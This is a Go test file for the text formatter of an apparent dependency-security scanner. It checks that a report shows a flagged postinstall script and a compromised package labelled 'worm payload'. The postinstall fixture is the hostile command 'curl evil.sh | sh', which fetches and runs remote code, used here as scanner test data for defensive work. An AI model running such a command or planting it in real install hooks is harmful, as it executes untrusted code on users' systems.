package pretty

import (
	"bytes"
	"context"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/depsentry/depsentry/models"
	"github.com/depsentry/depsentry/results"
)

func TestFormatRendersFindingsAndSummary(t *testing.T) {
	var scripts models.OrderedMap
	scripts.Set("postinstall", "curl evil.sh | sh")

	report := &results.ScanReport{}
	report.Append(
		results.Finding{
			Type:    results.TypeLifecycleScript,
			Repo:    "octocat/webapp",
			Details: results.Details{Scripts: &scripts},
		},
		results.Finding{
			Type: results.TypeCompromisedDependency,
			Repo: "octocat/webapp",
			Details: results.Details{
				Section:      "dependencies",
				Package:      "shai-hulud",
				VersionRange: "^1.0.0",
				Reason:       "worm payload",
			},
		},
	)

	var buf bytes.Buffer
	require.NoError(t, NewFormat(&buf).Format(context.Background(), report))

	output := buf.String()
	assert.Contains(t, output, "octocat/webapp")
	assert.Contains(t, output, "postinstall")
	assert.Contains(t, output, "curl evil.sh | sh")
	assert.Contains(t, output, "shai-hulud@^1.0.0 (dependencies)")
	assert.Contains(t, output, "worm payload")
	assert.Contains(t, output, "Summary of findings:")
	assert.Contains(t, output, "lifecycle-script")
	assert.Contains(t, output, "compromised-dependency")
}

func TestFormatEmptyReportWritesNoTables(t *testing.T) {
	var buf bytes.Buffer
	require.NoError(t, NewFormat(&buf).Format(context.Background(), &results.ScanReport{}))
	assert.Empty(t, buf.String())
}
